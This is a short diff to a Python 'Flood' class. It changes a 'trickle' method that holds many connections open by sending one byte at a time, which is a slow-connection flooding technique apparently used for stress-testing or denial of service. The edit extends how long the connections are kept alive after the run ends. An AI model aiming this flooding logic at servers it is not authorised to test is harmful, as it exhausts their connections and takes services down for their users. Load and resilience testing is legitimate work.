@@ -113,7 +113,8 @@ class Flood:
             self.idle.append(key.fileobj)
 
     def trickle(self, greeting: bytes, dribble: bytes, connections: int, pause: float) -> None:
-        """Opens `connections` and sends `greeting`, then one byte of `dribble` on each, again and again."""
+        """Opens `connections` and sends `greeting`, then one byte of `dribble` on each, again and again. Those that the
+        server ends up to 15 s late count too, unless all of `dribble` was sent: then nothing keeps them alive."""
         offsets: dict[socket.socket, int] = {}
         while len(offsets) < connections and not self.is_over:
             connection = self.open()
@@ -124,7 +125,9 @@ class Flood:
                 connection.send(greeting)
             offsets[connection] = 0
         opened = len(offsets)
-        while not self.is_over and offsets:
+        latest = self.end + 15
+        while offsets and (not self.is_over or time.monotonic() < latest
+                           and not (dribble and min(offsets.values()) >= len(dribble))):
             for connection, offset in list(offsets.items()):
                 try:
                     if dribble and offset < len(dribble):
